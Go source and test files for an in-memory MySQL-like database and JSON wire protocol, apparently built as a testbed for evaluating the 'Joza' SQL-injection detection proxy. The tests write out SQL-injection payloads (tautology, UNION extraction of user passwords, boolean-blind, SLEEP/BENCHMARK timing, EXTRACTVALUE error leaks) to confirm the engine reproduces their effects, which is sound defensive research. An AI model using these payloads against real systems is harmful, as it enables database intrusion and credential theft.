	for _, jc := range s.Joins {
		right, err := db.lookupTable(query, jc.Table)
		if err != nil {
			return nil, err
		}
		// Register the right side's columns before evaluating ON, which
		// may reference both sides.
		addColumns(jc.Table, jc.Alias, right)
		width := len(merged.columns)
		var joined [][]Value
		for _, lrow := range rows {
			matched := false
			for _, rrow := range right.rows {
				candidate := make([]Value, 0, width)
				candidate = append(candidate, lrow...)
				candidate = append(candidate, rrow...)
				if jc.On != nil {
					v, err := ev.eval(jc.On, merged, candidate)
					if err != nil {
						return nil, err
					}
					if !truthy(v) {
						continue
					}
				}
				matched = true
				joined = append(joined, candidate)
			}
			if !matched && jc.Left {
				candidate := make([]Value, width)
				copy(candidate, lrow)
				joined = append(joined, candidate) // right side stays NULL
			}
		}
		rows = joined
	}
	merged.rows = rows
	return merged, nil
}
