package minidb

import (
	"errors"
	"strings"
	"testing"
	"time"
)

func newTestDB(t *testing.T) *DB {
	t.Helper()
	db := New("wordpress")
	for _, q := range []string{
		"CREATE TABLE posts (id INT, title TEXT, views INT)",
		"CREATE TABLE users (id INT, username TEXT, password TEXT)",
		"INSERT INTO posts (id, title, views) VALUES (1, 'Hello World', 10), (2, 'Second Post', 25), (3, 'Drafts', 0)",
		"INSERT INTO users (id, username, password) VALUES (1, 'admin', 'c4ca4238a0b923820dcc509a6f75849b'), (2, 'editor', 'secret2')",
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	return db
}

func TestSelectWhere(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT title FROM posts WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0] != "Second Post" {
		t.Errorf("rows = %v", res.Rows)
	}
	if res.Columns[0] != "title" {
		t.Errorf("columns = %v", res.Columns)
	}
}

func TestSelectStar(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT * FROM posts")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 || len(res.Columns) != 3 {
		t.Errorf("rows=%d cols=%v", len(res.Rows), res.Columns)
	}
}

func TestTautologyBypassesWhere(t *testing.T) {
	// The canonical injection outcome: id=-1 OR 1=1 returns every row.
	db := newTestDB(t)
	res, err := db.Exec("SELECT * FROM posts WHERE id=-1 OR 1=1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 3 {
		t.Errorf("tautology returned %d rows, want 3", len(res.Rows))
	}
}

func TestUnionInjectionLeaksData(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT id, title FROM posts WHERE id=-1 UNION SELECT username, password FROM users")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %v", res.Rows)
	}
	if res.Rows[0][0] != "admin" {
		t.Errorf("leaked row = %v", res.Rows[0])
	}
}

func TestUnionColumnCountMismatch(t *testing.T) {
	db := newTestDB(t)
	_, err := db.Exec("SELECT id FROM posts UNION SELECT id, username FROM users")
	if err == nil {
		t.Fatal("want column-count error")
	}
}

func TestUnionDistinctVsAll(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT 1 UNION SELECT 1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 {
		t.Errorf("UNION dedupe: %v", res.Rows)
	}
	res, err = db.Exec("SELECT 1 UNION ALL SELECT 1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Errorf("UNION ALL: %v", res.Rows)
	}
}

func TestBlindBooleanObservable(t *testing.T) {
	// Boolean-blind injection: AND 1=1 keeps the row; AND 1=0 removes it.
	db := newTestDB(t)
	trueRes, err := db.Exec("SELECT title FROM posts WHERE id=1 AND 1=1")
	if err != nil {
		t.Fatal(err)
	}
	falseRes, err := db.Exec("SELECT title FROM posts WHERE id=1 AND 1=0")
	if err != nil {
		t.Fatal(err)
	}
	if len(trueRes.Rows) != 1 || len(falseRes.Rows) != 0 {
		t.Errorf("blind oracle broken: true=%d false=%d", len(trueRes.Rows), len(falseRes.Rows))
	}
}

func TestDoubleBlindSleepVirtualClock(t *testing.T) {
	db := newTestDB(t)
	start := time.Now()
	res, err := db.Exec("SELECT * FROM posts WHERE id=1 AND IF(1=1, SLEEP(5), 0)")
	if err != nil {
		t.Fatal(err)
	}
	if time.Since(start) > time.Second {
		t.Fatal("SLEEP must not block wall-clock time")
	}
	// IF condition true: SLEEP evaluated once per row scanned with id=1.
	if res.Delay < 5*time.Second {
		t.Errorf("delay = %v, want >= 5s", res.Delay)
	}
	// IF is lazy: the untaken SLEEP branch costs nothing.
	res2, err := db.Exec("SELECT * FROM posts WHERE id=1 AND IF(1=2, SLEEP(5), 0)")
	if err != nil {
		t.Fatal(err)
	}
	if res2.Delay != 0 {
		t.Errorf("untaken IF branch accumulated delay %v", res2.Delay)
	}
	res3, err := db.Exec("SELECT * FROM posts WHERE id=999 AND SLEEP(5)")
	if err != nil {
		t.Fatal(err)
	}
	if res3.Delay >= 5*time.Second*3+time.Second {
		t.Errorf("short-circuit AND evaluated SLEEP too often: %v", res3.Delay)
	}
}

func TestSleepShortCircuit(t *testing.T) {
	// WHERE false AND SLEEP(5): SLEEP must not run (short-circuit).
	db := newTestDB(t)
	res, err := db.Exec("SELECT * FROM posts WHERE 1=0 AND SLEEP(5)")
	if err != nil {
		t.Fatal(err)
	}
	if res.Delay != 0 {
		t.Errorf("delay = %v, want 0", res.Delay)
	}
}

func TestErrorBasedInjection(t *testing.T) {
	db := newTestDB(t)
	_, err := db.Exec("SELECT * FROM posts WHERE id=1 AND EXTRACTVALUE(1, version())")
	if err == nil {
		t.Fatal("EXTRACTVALUE should error")
	}
	if !strings.Contains(err.Error(), Version) {
		t.Errorf("error should leak the evaluated argument: %v", err)
	}
}

func TestInsertUpdateDelete(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("INSERT INTO posts (id, title, views) VALUES (4, 'New', 1)")
	if err != nil || res.Affected != 1 {
		t.Fatalf("insert: %v %v", res, err)
	}
	res, err = db.Exec("UPDATE posts SET views = views + 1 WHERE id = 4")
	if err != nil || res.Affected != 1 {
		t.Fatalf("update: %v %v", res, err)
	}
	check, _ := db.Exec("SELECT views FROM posts WHERE id = 4")
	if check.Rows[0][0] != int64(2) {
		t.Errorf("views = %v", check.Rows[0][0])
	}
	res, err = db.Exec("DELETE FROM posts WHERE id = 4")
	if err != nil || res.Affected != 1 {
		t.Fatalf("delete: %v %v", res, err)
	}
	check, _ = db.Exec("SELECT COUNT(*) FROM posts")
	if check.Rows[0][0] != int64(3) {
		t.Errorf("count = %v", check.Rows[0][0])
	}
}

func TestInsertWithoutColumnList(t *testing.T) {
	db := newTestDB(t)
	if _, err := db.Exec("INSERT INTO posts VALUES (9, 'X', 0)"); err != nil {
		t.Fatal(err)
	}
	res, _ := db.Exec("SELECT title FROM posts WHERE id=9")
	if res.Rows[0][0] != "X" {
		t.Errorf("row = %v", res.Rows)
	}
}

func TestAggregates(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT COUNT(*), SUM(views), MAX(views), MIN(views), AVG(views) FROM posts")
	if err != nil {
		t.Fatal(err)
	}
	row := res.Rows[0]
	if row[0] != int64(3) || row[1] != int64(35) || row[2] != int64(25) || row[3] != int64(0) {
		t.Errorf("aggregates = %v", row)
	}
	if avg := row[4].(float64); avg < 11.6 || avg > 11.7 {
		t.Errorf("avg = %v", avg)
	}
}

func TestGroupByHaving(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (cat TEXT, n INT)")
	db.MustExec("INSERT INTO t VALUES ('a', 1), ('a', 2), ('b', 5)")
	res, err := db.Exec("SELECT cat, SUM(n) FROM t GROUP BY cat HAVING SUM(n) > 2 ORDER BY cat")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %v", res.Rows)
	}
	if res.Rows[0][0] != "a" || res.Rows[0][1] != int64(3) {
		t.Errorf("group a = %v", res.Rows[0])
	}
	if res.Rows[1][0] != "b" || res.Rows[1][1] != int64(5) {
		t.Errorf("group b = %v", res.Rows[1])
	}
}

func TestGroupConcat(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT GROUP_CONCAT(username) FROM users")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != "admin,editor" {
		t.Errorf("group_concat = %v", res.Rows[0][0])
	}
}

func TestOrderByLimit(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT title FROM posts ORDER BY views DESC LIMIT 2")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 || res.Rows[0][0] != "Second Post" {
		t.Errorf("rows = %v", res.Rows)
	}
	res, err = db.Exec("SELECT title FROM posts ORDER BY views DESC LIMIT 1, 2")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 || res.Rows[0][0] != "Hello World" {
		t.Errorf("offset rows = %v", res.Rows)
	}
	// ORDER BY column position.
	res, err = db.Exec("SELECT title, views FROM posts ORDER BY 2 DESC LIMIT 1")
	if err != nil {
		t.Fatal(err)
	}
	if res.Rows[0][0] != "Second Post" {
		t.Errorf("positional order = %v", res.Rows)
	}
}

func TestLikeOperator(t *testing.T) {
	db := newTestDB(t)
	res, err := db.Exec("SELECT title FROM posts WHERE title LIKE '%world%'")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0] != "Hello World" {
		t.Errorf("rows = %v", res.Rows)
	}
	res, _ = db.Exec("SELECT title FROM posts WHERE title LIKE 'H_llo%'")
	if len(res.Rows) != 1 {
		t.Errorf("underscore: %v", res.Rows)
	}
	// Only "Drafts" lacks an 'o'.
	res, _ = db.Exec("SELECT title FROM posts WHERE title NOT LIKE '%o%'")
	if len(res.Rows) != 1 || res.Rows[0][0] != "Drafts" {
		t.Errorf("not like: %v", res.Rows)
	}
}

func TestFunctions(t *testing.T) {
	db := New("sitedb")
	tests := []struct {
		q    string
		want Value
	}{
		{"SELECT version()", Version},
		{"SELECT database()", "sitedb"},
		{"SELECT CONCAT('a', 1, 'b')", "a1b"},
		{"SELECT CHAR(65, 66, 67)", "ABC"},
		{"SELECT ASCII('A')", int64(65)},
		{"SELECT LENGTH('hello')", int64(5)},
		{"SELECT UPPER('abc')", "ABC"},
		{"SELECT LOWER('ABC')", "abc"},
		{"SELECT SUBSTRING('abcdef', 2, 3)", "bcd"},
		{"SELECT SUBSTRING('abcdef', 4)", "def"},
		{"SELECT MD5('admin')", "21232f297a57a5a743894a0e4a801fc3"},
		{"SELECT IF(1=1, 'yes', 'no')", "yes"},
		{"SELECT IFNULL(NULL, 'fallback')", "fallback"},
		{"SELECT COALESCE(NULL, NULL, 3)", int64(3)},
		{"SELECT ABS(-4)", int64(4)},
		{"SELECT GREATEST(1, 9, 5)", int64(9)},
		{"SELECT LEAST(3, 2, 8)", int64(2)},
		{"SELECT REVERSE('abc')", "cba"},
		{"SELECT HEX('AB')", "4142"},
		{"SELECT UNHEX('4142')", "AB"},
		{"SELECT LEFT('abcdef', 2)", "ab"},
		{"SELECT RIGHT('abcdef', 2)", "ef"},
		{"SELECT REPLACE('aXbXc', 'X', '-')", "a-b-c"},
		{"SELECT INSTR('hello', 'll')", int64(3)},
		{"SELECT TRIM('  x  ')", "x"},
		{"SELECT STRCMP('a', 'b')", int64(-1)},
		{"SELECT CONCAT_WS('-', 'a', NULL, 'b')", "a-b"},
		{"SELECT 7 DIV 2", int64(3)},
		{"SELECT 7 % 3", int64(1)},
		{"SELECT 1 XOR 0", int64(1)},
	}
	for _, tt := range tests {
		res, err := db.Exec(tt.q)
		if err != nil {
			t.Errorf("%s: %v", tt.q, err)
			continue
		}
		if len(res.Rows) != 1 || res.Rows[0][0] != tt.want {
			t.Errorf("%s = %v, want %v", tt.q, res.Rows[0][0], tt.want)
		}
	}
}

func TestNullSemantics(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (NULL), (1)")
	res, _ := db.Exec("SELECT a FROM t WHERE a = 1")
	if len(res.Rows) != 1 {
		t.Errorf("= with NULL row: %v", res.Rows)
	}
	res, _ = db.Exec("SELECT a FROM t WHERE a IS NULL")
	if len(res.Rows) != 1 {
		t.Errorf("IS NULL: %v", res.Rows)
	}
	res, _ = db.Exec("SELECT a FROM t WHERE a IS NOT NULL")
	if len(res.Rows) != 1 {
		t.Errorf("IS NOT NULL: %v", res.Rows)
	}
	// Division by zero yields NULL.
	res, _ = db.Exec("SELECT 1/0")
	if res.Rows[0][0] != nil {
		t.Errorf("1/0 = %v", res.Rows[0][0])
	}
}

func TestStringNumberCoercion(t *testing.T) {
	db := newTestDB(t)
	// MySQL compares '1' = 1 as numbers.
	res, err := db.Exec("SELECT title FROM posts WHERE id = '1'")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 {
		t.Errorf("string/number coercion: %v", res.Rows)
	}
	// 'abc' coerces to 0.
	res, _ = db.Exec("SELECT 'abc' = 0")
	if res.Rows[0][0] != int64(1) {
		t.Errorf("'abc'=0 → %v", res.Rows[0][0])
	}
}

func TestErrors(t *testing.T) {
	db := newTestDB(t)
	cases := []string{
		"SELECT * FROM missing",
		"SELECT nope FROM posts",
		"INSERT INTO posts (id) VALUES (1, 2)",
		"INSERT INTO posts (bogus) VALUES (1)",
		"UPDATE posts SET bogus = 1",
		"DELETE FROM missing",
		"CREATE TABLE posts (id INT)",
		"DROP TABLE missing",
		"SELECT * FROM posts WHERE",
		"SELECT UNKNOWNFUNC(1) FROM posts",
	}
	for _, q := range cases {
		if _, err := db.Exec(q); err == nil {
			t.Errorf("Exec(%q) succeeded, want error", q)
		} else {
			var ee *ExecError
			if !errors.As(err, &ee) {
				t.Errorf("Exec(%q) error type %T", q, err)
			}
		}
	}
}

func TestCreateDropIfClauses(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (a INT)")
	if _, err := db.Exec("CREATE TABLE IF NOT EXISTS t (a INT)"); err != nil {
		t.Error(err)
	}
	if _, err := db.Exec("DROP TABLE IF EXISTS missing"); err != nil {
		t.Error(err)
	}
	db.MustExec("DROP TABLE t")
	if len(db.Tables()) != 0 {
		t.Errorf("tables = %v", db.Tables())
	}
}

func TestDistinct(t *testing.T) {
	db := New("d")
	db.MustExec("CREATE TABLE t (a INT)")
	db.MustExec("INSERT INTO t VALUES (1), (1), (2)")
	res, _ := db.Exec("SELECT DISTINCT a FROM t")
	if len(res.Rows) != 2 {
		t.Errorf("distinct rows = %v", res.Rows)
	}
}

func TestInBetween(t *testing.T) {
	db := newTestDB(t)
	res, _ := db.Exec("SELECT title FROM posts WHERE id IN (1, 3)")
	if len(res.Rows) != 2 {
		t.Errorf("IN: %v", res.Rows)
	}
	res, _ = db.Exec("SELECT title FROM posts WHERE id NOT IN (1, 3)")
	if len(res.Rows) != 1 {
		t.Errorf("NOT IN: %v", res.Rows)
	}
	res, _ = db.Exec("SELECT title FROM posts WHERE views BETWEEN 5 AND 30")
	if len(res.Rows) != 2 {
		t.Errorf("BETWEEN: %v", res.Rows)
	}
}

func TestTables(t *testing.T) {
	db := newTestDB(t)
	got := db.Tables()
	if len(got) != 2 || got[0] != "posts" || got[1] != "users" {
		t.Errorf("Tables = %v", got)
	}
}

func TestMustExecPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustExec should panic on error")
		}
	}()
	New("d").MustExec("SELECT * FROM missing")
}

func TestConcurrentReads(t *testing.T) {
	db := newTestDB(t)
	done := make(chan error, 8)
	for g := 0; g < 8; g++ {
		go func() {
			var err error
			for i := 0; i < 200; i++ {
				if _, e := db.Exec("SELECT * FROM posts WHERE id=1"); e != nil {
					err = e
					break
				}
			}
			done <- err
		}()
	}
	for g := 0; g < 8; g++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func TestBenchmarkFunctionDelay(t *testing.T) {
	db := New("d")
	res, err := db.Exec("SELECT BENCHMARK(1000000, MD5('x'))")
	if err != nil {
		t.Fatal(err)
	}
	if res.Delay != time.Second {
		t.Errorf("benchmark delay = %v, want 1s", res.Delay)
	}
}
