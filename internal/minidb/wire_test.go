package minidb

import (
	"errors"
	"net"
	"sync"
	"testing"
)

// startServer starts a Server on a random local port and returns its
// address plus a cleanup function.
func startServer(t *testing.T, db *DB) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(db)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		<-done
	})
	return ln.Addr().String()
}

func TestClientServerRoundTrip(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	res, err := c.Query("SELECT id, title FROM posts WHERE id = 1")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 1 || res.Rows[0][0] != int64(1) || res.Rows[0][1] != "Hello World" {
		t.Errorf("rows = %v", res.Rows)
	}
	if res.Columns[0] != "id" {
		t.Errorf("columns = %v", res.Columns)
	}
}

func TestClientServerError(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_, err = c.Query("SELECT * FROM missing")
	var ee *ExecError
	if !errors.As(err, &ee) {
		t.Fatalf("err = %v (%T)", err, err)
	}
}

func TestClientServerDelayPropagates(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	res, err := c.Query("SELECT SLEEP(2)")
	if err != nil {
		t.Fatal(err)
	}
	if res.Delay.Seconds() != 2 {
		t.Errorf("delay = %v", res.Delay)
	}
}

func TestClientServerWrites(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	res, err := c.Query("INSERT INTO posts (id, title, views) VALUES (99, 'Wire', 0)")
	if err != nil || res.Affected != 1 {
		t.Fatalf("insert over wire: %v %v", res, err)
	}
	check, err := c.Query("SELECT title FROM posts WHERE id = 99")
	if err != nil || len(check.Rows) != 1 || check.Rows[0][0] != "Wire" {
		t.Errorf("check = %v %v", check, err)
	}
}

func TestClientConcurrent(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	var wg sync.WaitGroup
	errs := make(chan error, 8)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				if _, err := c.Query("SELECT COUNT(*) FROM posts"); err != nil {
					errs <- err
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	if err := <-errs; err != nil {
		t.Fatal(err)
	}
}

func TestMultipleClients(t *testing.T) {
	db := newTestDB(t)
	addr := startServer(t, db)
	for i := 0; i < 5; i++ {
		c, err := Dial(addr)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := c.Query("SELECT 1"); err != nil {
			t.Fatal(err)
		}
		_ = c.Close()
	}
}

func TestServerCloseIdempotent(t *testing.T) {
	srv := NewServer(New("d"))
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if err := srv.Serve(ln); !errors.Is(err, net.ErrClosed) {
		t.Errorf("Serve after Close = %v", err)
	}
}

func TestDialError(t *testing.T) {
	if _, err := Dial("127.0.0.1:1"); err == nil {
		t.Error("Dial to closed port should fail")
	}
}

func TestExecuteRequestHelper(t *testing.T) {
	db := newTestDB(t)
	resp := ExecuteRequest(db, &Request{Query: "SELECT COUNT(*) FROM users"})
	if resp.Error != "" || len(resp.Rows) != 1 {
		t.Errorf("resp = %+v", resp)
	}
	resp = ExecuteRequest(db, &Request{Query: "garbage"})
	if resp.Error == "" {
		t.Error("want error response")
	}
}

func TestNormalizeWireValue(t *testing.T) {
	if normalizeWireValue(float64(3)) != int64(3) {
		t.Error("integral float should become int64")
	}
	if normalizeWireValue(3.5) != 3.5 {
		t.Error("fractional float should stay float64")
	}
	if normalizeWireValue("s") != "s" || normalizeWireValue(nil) != nil {
		t.Error("non-numeric passthrough")
	}
}
