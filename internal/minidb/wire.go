package minidb

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"
)

// The wire protocol is newline-delimited JSON: one Request per line from
// the client, one Response per line from the server. It is deliberately
// simple — the point of the substrate is that a proxy can interpose on it
// (see internal/proxy), the way Joza-as-a-DB-proxy would interpose on the
// MySQL protocol.

// WireInput carries one captured application input alongside a query so a
// Joza proxy can run NTI. The database server itself ignores inputs.
type WireInput struct {
	Source string `json:"source"`
	Name   string `json:"name"`
	Value  string `json:"value"`
}

// Request is one statement submitted over the wire.
type Request struct {
	Query  string      `json:"query"`
	Inputs []WireInput `json:"inputs,omitempty"`
	// Site identifies the application call site issuing the query, for a
	// Joza proxy running the query-skeleton profile stage. The database
	// server itself ignores it.
	Site string `json:"site,omitempty"`
}

// Response is the server's answer to a Request. Numeric values arrive as
// float64 after JSON decoding; Client.normalize restores integral values
// to int64.
type Response struct {
	Columns  []string  `json:"columns,omitempty"`
	Rows     [][]Value `json:"rows,omitempty"`
	Affected int       `json:"affected,omitempty"`
	DelayMs  float64   `json:"delayMs,omitempty"`
	// Error is a database error message (blind exploits observe these).
	Error string `json:"error,omitempty"`
	// Blocked is set by a Joza proxy when the query was rejected as an
	// attack rather than failing in the database.
	Blocked bool `json:"blocked,omitempty"`
}

// Server serves the minidb wire protocol over a net.Listener.
type Server struct {
	db *DB

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	wg     sync.WaitGroup
	closed bool
}

// NewServer returns a Server that executes queries against db.
func NewServer(db *DB) *Server {
	return &Server{db: db, conns: make(map[net.Conn]struct{})}
}

// Serve accepts connections on ln until Close is called. It always returns
// a non-nil error; after Close the error is net.ErrClosed.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return net.ErrClosed
	}
	s.ln = ln
	s.mu.Unlock()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			_ = conn.Close()
			return net.ErrClosed
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()
		go func() {
			defer s.wg.Done()
			s.handle(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// Close stops the server and waits for in-flight connections to finish.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	ln := s.ln
	for c := range s.conns {
		_ = c.Close()
	}
	s.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}

func (s *Server) handle(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	dec := json.NewDecoder(bufio.NewReader(conn))
	enc := json.NewEncoder(conn)
	for {
		var req Request
		if err := dec.Decode(&req); err != nil {
			return // EOF or malformed stream: drop the connection
		}
		resp := ExecuteRequest(s.db, &req)
		if err := enc.Encode(resp); err != nil {
			return
		}
	}
}

// ExecuteRequest runs one request against db and renders the wire
// response. It is exported so the proxy can reuse the exact translation.
// A panic inside the engine (a parser or evaluator bug on a hostile
// statement) is contained here, in the serving path shared by the wire
// server and the proxy's local backend: the client gets an error response
// and the connection — and the server — live on.
func ExecuteRequest(db *DB, req *Request) (resp *Response) {
	defer func() {
		if r := recover(); r != nil {
			resp = &Response{Error: fmt.Sprintf("internal error: %v", r)}
		}
	}()
	res, err := db.Exec(req.Query)
	if err != nil {
		return &Response{Error: err.Error()}
	}
	return &Response{
		Columns:  res.Columns,
		Rows:     res.Rows,
		Affected: res.Affected,
		DelayMs:  float64(res.Delay) / float64(time.Millisecond),
	}
}

// Client speaks the minidb wire protocol. Safe for concurrent use; requests
// are serialized over the single connection.
type Client struct {
	mu   sync.Mutex
	conn net.Conn
	enc  *json.Encoder
	dec  *json.Decoder
}

// Dial connects a Client to addr (TCP).
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("minidb dial: %w", err)
	}
	return NewClient(conn), nil
}

// NewClient wraps an established connection.
func NewClient(conn net.Conn) *Client {
	return &Client{
		conn: conn,
		enc:  json.NewEncoder(conn),
		dec:  json.NewDecoder(bufio.NewReader(conn)),
	}
}

// ErrBlocked is returned by Client.Query when a Joza proxy rejected the
// query as an injection attack.
var ErrBlocked = errors.New("query blocked by joza proxy")

// Query executes q and returns the result. A database error is returned as
// an *ExecError; a proxy block as ErrBlocked.
func (c *Client) Query(q string) (*Result, error) {
	return c.QueryWithInputs(q, nil)
}

// QueryWithInputs executes q, attaching the request's captured inputs for
// an interposing Joza proxy.
func (c *Client) QueryWithInputs(q string, inputs []WireInput) (*Result, error) {
	return c.QueryAt("", q, inputs)
}

// QueryAt is QueryWithInputs with a call-site identity: site rides in the
// request so an interposing Joza proxy can run the query-skeleton profile
// stage. The database server ignores it.
func (c *Client) QueryAt(site, q string, inputs []WireInput) (*Result, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.enc.Encode(Request{Query: q, Inputs: inputs, Site: site}); err != nil {
		return nil, fmt.Errorf("minidb send: %w", err)
	}
	var resp Response
	if err := c.dec.Decode(&resp); err != nil {
		return nil, fmt.Errorf("minidb recv: %w", err)
	}
	if resp.Blocked {
		return nil, ErrBlocked
	}
	if resp.Error != "" {
		return nil, &ExecError{Query: q, Msg: resp.Error}
	}
	res := &Result{
		Columns:  resp.Columns,
		Affected: resp.Affected,
		Delay:    time.Duration(resp.DelayMs * float64(time.Millisecond)),
	}
	res.Rows = make([][]Value, len(resp.Rows))
	for i, row := range resp.Rows {
		out := make([]Value, len(row))
		for j, v := range row {
			out[j] = normalizeWireValue(v)
		}
		res.Rows[i] = out
	}
	return res, nil
}

// Close closes the underlying connection.
func (c *Client) Close() error { return c.conn.Close() }

// normalizeWireValue restores integral JSON numbers to int64, matching the
// engine's native representation.
func normalizeWireValue(v Value) Value {
	if f, ok := v.(float64); ok && f == float64(int64(f)) {
		return int64(f)
	}
	return v
}
