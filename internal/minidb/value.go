// Package minidb is an in-memory SQL database engine implementing the
// MySQL-dialect subset the Joza evaluation needs. The testbed's exploits
// execute for real against it: union-based exploits return attacker-chosen
// rows, tautologies defeat WHERE clauses, blind exploits observably change
// result emptiness, and double-blind exploits accumulate virtual SLEEP
// delay on a virtual clock (no wall-clock time is spent).
//
// The engine substitutes for the MySQL backend of the paper's WordPress
// testbed; see DESIGN.md for the substitution rationale.
package minidb

import (
	"fmt"
	"strconv"
	"strings"
)

// Value is a database value: nil (NULL), int64, float64 or string.
type Value any

// compareValues orders two non-NULL values with MySQL-style coercion: if
// either side is numeric, both are compared numerically (strings coerce via
// their numeric prefix); otherwise comparison is lexicographic and
// case-insensitive, like MySQL's default collation.
func compareValues(a, b Value) int {
	if isNumeric(a) || isNumeric(b) {
		fa, fb := toFloat(a), toFloat(b)
		switch {
		case fa < fb:
			return -1
		case fa > fb:
			return 1
		default:
			return 0
		}
	}
	sa, sb := strings.ToLower(toString(a)), strings.ToLower(toString(b))
	switch {
	case sa < sb:
		return -1
	case sa > sb:
		return 1
	default:
		return 0
	}
}

func isNumeric(v Value) bool {
	switch v.(type) {
	case int64, float64:
		return true
	}
	return false
}

// toFloat coerces a value to float64 using MySQL's leading-numeric-prefix
// rule for strings ("5x" → 5, "abc" → 0).
func toFloat(v Value) float64 {
	switch x := v.(type) {
	case nil:
		return 0
	case int64:
		return float64(x)
	case float64:
		return x
	case string:
		return numericPrefix(x)
	default:
		return 0
	}
}

func numericPrefix(s string) float64 {
	s = strings.TrimLeft(s, " \t")
	end := 0
	seenDigit := false
	seenDot := false
	for end < len(s) {
		c := s[end]
		switch {
		case c >= '0' && c <= '9':
			seenDigit = true
		case c == '.' && !seenDot:
			seenDot = true
		case (c == '-' || c == '+') && end == 0:
		default:
			goto done
		}
		end++
	}
done:
	if !seenDigit {
		return 0
	}
	f, err := strconv.ParseFloat(strings.TrimRight(s[:end], "."), 64)
	if err != nil {
		return 0
	}
	return f
}

// toString renders a value the way MySQL would in a result set.
func toString(v Value) string {
	switch x := v.(type) {
	case nil:
		return "NULL"
	case int64:
		return strconv.FormatInt(x, 10)
	case float64:
		return strconv.FormatFloat(x, 'g', -1, 64)
	case string:
		return x
	default:
		return fmt.Sprintf("%v", x)
	}
}

// truthy implements SQL boolean coercion: NULL and zero are false.
func truthy(v Value) bool {
	if v == nil {
		return false
	}
	return toFloat(v) != 0
}

// boolValue renders a comparison result as MySQL does (1 or 0).
func boolValue(b bool) Value {
	if b {
		return int64(1)
	}
	return int64(0)
}

// likeMatch implements the SQL LIKE operator: % matches any run, _ matches
// one byte; matching is case-insensitive.
func likeMatch(s, pattern string) bool {
	return likeRec(strings.ToLower(s), strings.ToLower(pattern))
}

func likeRec(s, p string) bool {
	for len(p) > 0 {
		switch p[0] {
		case '%':
			// Collapse consecutive %.
			for len(p) > 0 && p[0] == '%' {
				p = p[1:]
			}
			if len(p) == 0 {
				return true
			}
			for i := 0; i <= len(s); i++ {
				if likeRec(s[i:], p) {
					return true
				}
			}
			return false
		case '_':
